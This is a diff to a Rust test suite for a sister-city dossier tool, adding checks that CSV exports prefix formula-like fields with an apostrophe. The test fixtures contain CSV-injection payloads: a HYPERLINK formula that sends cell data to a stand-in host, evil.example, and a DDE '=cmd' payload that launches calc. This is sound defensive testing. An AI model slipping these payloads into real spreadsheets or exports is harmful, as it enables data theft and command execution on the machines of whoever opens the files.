@@ -1,5 +1,6 @@
 //! Hostile dossier text in every Markdown, HTML and CSV output (issue 10): it reads back as
 //! exactly the text typed, never as Markdown syntax, HTML, a link or an image; CSV is data.
+//! Issue 13: a CSV field never starts a formula.
 //!
 //! Markdown is read back with pulldown-cmark (GFM tables on), HTML with html5gum's WHATWG
 //! tokenizer and CSV with the csv crate, so the checks see what a reader's software sees.
@@ -558,6 +559,11 @@ fn read_csv(ws: &Workspace, args: &[&str]) -> (Vec<String>, Vec<Vec<String>>) {
                 !field.contains('—'),
                 "{what}: a display string {field:?}\n{run}"
             );
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
+                    || field.parse::<f64>().is_ok(),
+                "{what}: {field:?} is a formula to a spreadsheet\n{run}"
+            );
         }
     }
     (header, rows)
@@ -622,7 +628,11 @@ fn csv_is_data_whatever_the_language() {
         assert_eq!(field(&actions, "id", "a-soon", "days_overdue"), "");
 
         let people = read_csv(&ws, &with(&["facilitator", "list"]));
-        assert_eq!(field(&people, "id", "ali", "name"), FACILITATOR);
+        // `+ Ali` would be a formula: guarded by a `'`.
+        assert_eq!(
+            field(&people, "id", "ali", "name"),
+            format!("'{FACILITATOR}")
+        );
         assert_eq!(field(&people, "id", "ali", "name_fa"), FACILITATOR_FA);
         assert_eq!(field(&people, "id", "ali", "cities"), "kazan");
         assert_eq!(field(&people, "id", "ali", "languages"), "ru;tt");
@@ -636,7 +646,9 @@ fn csv_is_data_whatever_the_language() {
         assert_eq!(field(&gaps, "slug", "porto", "name.en"), PORTO);
 
         let check = read_csv(&ws, &with(&["check", "kazan"]));
-        assert!(field(&check, "id", "communication", "reason").starts_with(EVIDENCE));
+        assert!(
+            field(&check, "id", "communication", "reason").starts_with(&format!("'{EVIDENCE}"))
+        );
         assert_eq!(field(&check, "id", "communication", "status"), "partial");
         assert_eq!(
             field(&check, "id", "active-facilitators", "status"),
@@ -689,4 +701,109 @@ fn csv_columns_are_the_json_keys() {
         let (header, _) = read_csv(&ws, args);
         assert_eq!(header, expected, "{args:?}");
     }
+}
+
+/// Formulas as dossier text: a link that runs when clicked, a command, a phone number, a sum.
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Kazan")"#;
+const CALC: &str = "=cmd|' /C calc'!A0";
+const PHONE: &str = "+98 31 1234 5678";
+
+/// Every text field a spreadsheet reads as a formula (`=`, `+`, `-`, `@`, TAB, CR, LF first) is
+/// guarded by a `'`, in every CSV; numbers, and text that is exactly a number, stay numbers.
+/// JSON keeps the text as it is.
+#[test]
+fn csv_fields_never_start_a_formula_and_numbers_stay_numbers() {
+    let ws = Workspace::new();
+    ws.city(
+        "kazan.yaml",
+        format!(
+            r#"slug: kazan
+name:
+  en: {hyperlink}
+  fa: "@SUM(1+1)"
+  local: "\tKazan"
+country: RU
+relationship: {{kind: sister-city, status: active}}
+facilitators:
+  - id: ali
+    name: "-Ali"
+    languages: [ru]
+    expertise: ["=1+1", tourism]
+    status: active
+    contact: {{email: "=ali@example.org", phone: {phone}}}
+actions:
+  - id: a-calc
+    title: {calc}
+    owner: joint
+    due: 2026-10-01
+    status: open
+  - id: a-minus
+    title: "-3"
+    owner: chamber
+    status: open
+  - id: a-decimal
+    title: "12.5"
+    owner: chamber
+    status: open
+  - id: a-cr
+    title: "\rx"
+    owner: chamber
+    status: open
+  - id: a-lf
+    title: "\nx"
+    owner: chamber
+    status: open
+"#,
+            hyperlink = q(HYPERLINK),
+            phone = q(PHONE),
+            calc = q(CALC),
+        ),
+    );
+    let number = |text: &str| text.parse::<i64>().is_ok();
+
+    let cities = read_csv(&ws, &["city", "list"]);
+    assert_eq!(
+        field(&cities, "slug", "kazan", "name.en"),
+        format!("'{HYPERLINK}")
+    );
+    assert_eq!(field(&cities, "slug", "kazan", "name.fa"), "'@SUM(1+1)");
+    assert_eq!(field(&cities, "slug", "kazan", "name.local"), "'\tKazan");
+    for column in [
+        "readiness.met",
+        "readiness.total",
+        "active_facilitators",
+        "open_actions",
+        "overdue_actions",
+    ] {
+        assert!(number(field(&cities, "slug", "kazan", column)), "{column}");
+    }
+    assert_eq!(field(&cities, "slug", "kazan", "open_actions"), "5");
+
+    let people = read_csv(&ws, &["facilitator", "list", "--contacts"]);
+    assert_eq!(field(&people, "id", "ali", "name"), "'-Ali");
+    assert_eq!(field(&people, "id", "ali", "expertise"), "'=1+1;tourism");
+    assert_eq!(field(&people, "id", "ali", "email"), "'=ali@example.org");
+    assert_eq!(field(&people, "id", "ali", "phone"), format!("'{PHONE}"));
+
+    let actions = read_csv(&ws, &["action", "list", "--all"]);
+    assert_eq!(field(&actions, "id", "a-calc", "title"), format!("'{CALC}"));
+    assert_eq!(field(&actions, "id", "a-cr", "title"), "'\rx");
+    assert_eq!(field(&actions, "id", "a-lf", "title"), "'\nx");
+    // Text that is exactly a number is a number to the spreadsheet, not a formula.
+    assert_eq!(field(&actions, "id", "a-minus", "title"), "-3");
+    assert_eq!(field(&actions, "id", "a-decimal", "title"), "12.5");
+    assert_eq!(field(&actions, "id", "a-calc", "days_overdue"), "56");
+
+    let roadmap = read_csv(&ws, &["report", "roadmap"]);
+    assert_eq!(field(&roadmap, "id", "a-calc", "title"), format!("'{CALC}"));
+
+    // JSON is data: the text as it was written.
+    let json = run(&ws, &["city", "list", "--format", "json"]).json();
+    assert_eq!(json[0]["name"]["en"], HYPERLINK);
+    let json = run(
+        &ws,
+        &["facilitator", "list", "--contacts", "--format", "json"],
+    )
+    .json();
+    assert_eq!(json[0]["phone"], PHONE);
 }
